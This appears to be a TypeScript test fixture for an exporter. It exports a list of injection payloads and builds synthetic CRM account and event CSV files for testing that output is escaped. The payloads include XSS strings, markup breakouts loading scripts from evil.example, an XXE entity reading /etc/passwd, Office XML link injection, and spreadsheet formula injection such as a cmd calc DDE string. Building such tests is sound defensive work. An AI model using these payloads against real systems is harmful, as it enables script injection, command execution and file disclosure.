import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'

/** What a careless writer would let through; several would also be a formula. */
export const payloads = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', `'><iframe src="https://evil.example">`, '</title><script src="//evil.example/x.js"></script>', '</style><style>@import "https://evil.example/a.css"</style>',
  '<a href="javascript:alert(1)">x</a>', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<link rel=stylesheet href=https://evil.example/a.css>', '<object data="https://evil.example/a.swf"></object>',
  '<form action="https://evil.example"><input name=q></form>', '<math><mi xlink:href="https://evil.example">x</mi></math>', '<!-- --><b>bold</b>', ']]><x/>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&lt;script&gt;', '&#x3c;script&#x3e;', '<Relationship TargetMode="External" Target="https://evil.example"/>', '<a:hlinkClick r:id="rId9"/>', '</a:t></a:r><a:r><a:t>', '</t></si><si><t>', '=HYPERLINK("https://evil.example","x")', '=cmd|"/C calc"!A0', '@SUM(1+1)',
  '+1+1', '-2+3+cmd|x', '\t=1+1', '{{constructor.constructor("alert(1)")()}}', '${process.exit(1)}',
] as const

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`

/** A funnel in which later stages are more active, with the given names of customers and of people at them, and two companies nobody has an account of. */
export function funnel(names: readonly string[] = []): { accounts: string; events: string } {
  const stages = ['lead', 'opportunity', 'customer'] as const
  const accounts = Array.from({ length: 90 }, (_, index) => ({ id: index + 1, name: names[index - 60] ?? `Account no ${index + 1}`, domain: `account${index + 1}.example`, stage: stages[Math.floor(index / 30)] ?? 'lead' }))
  const active = accounts.filter(({ id, stage }) => id % 10 < { lead: 3, opportunity: 5, customer: 10 }[stage])
  const rows = active.flatMap(({ domain, id }) => {
    const name = names[id - 61]
    return [
      `2026-05-${10 + (id % 15)}T10:00:00Z,${id % 3 === 0 ? 'product_usage' : 'docs_view'},dev${id}@${domain},,`, `2026-05-28T10:00:00Z,repo_issue,dev${id}@${domain},,`,
      ...(name === undefined ? [] : [`2026-05-27T10:00:00Z,docs_view,,${domain},${quoted(`coder-${name}`)}`]),
    ]
  })
  return {
    accounts: `record_id,name,domain,stage\n${accounts.map(({ id, name, domain, stage }) => `${id},${quoted(name)},${domain},${stage}\n`).join('')}999,Gone,gone.example,lost\n`,
    events: `occurred_at,source,email,domain,login\n${rows.join('\n')}\n2026-05-30T10:00:00Z,product_usage,,hidden.example,\n2026-05-30T10:00:00Z,product_usage,,other-hidden.example,\n`,
  }
}

export async function writeFunnel(folder: string, names: readonly string[] = []): Promise<void> {
  const { accounts, events } = funnel(names)
  await writeFile(join(folder, 'accounts.csv'), accounts)
  await writeFile(join(folder, 'events.csv'), events)
}
